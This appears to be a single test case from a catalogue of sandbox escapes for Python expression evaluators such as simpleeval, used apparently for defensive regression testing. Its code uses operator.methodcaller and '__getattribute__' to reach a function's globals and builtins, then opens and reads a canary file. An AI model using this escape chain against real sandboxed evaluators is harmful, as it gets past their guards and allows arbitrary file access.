# id: methodcaller-getattribute
# family: guard-confusion
# kind: escape
# invariant: D, E
# origin: a change to simpleeval
# technique: methodcaller calls a method named in data, __getattribute__ as well, which then reads an attribute named in data
# needs: the operator module
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import operator
import textwrap

namespace = operator.methodcaller("__getattribute__", "__globals__")(textwrap.dedent)
print(namespace["__builtins__"]["open"]("canary.txt").read())
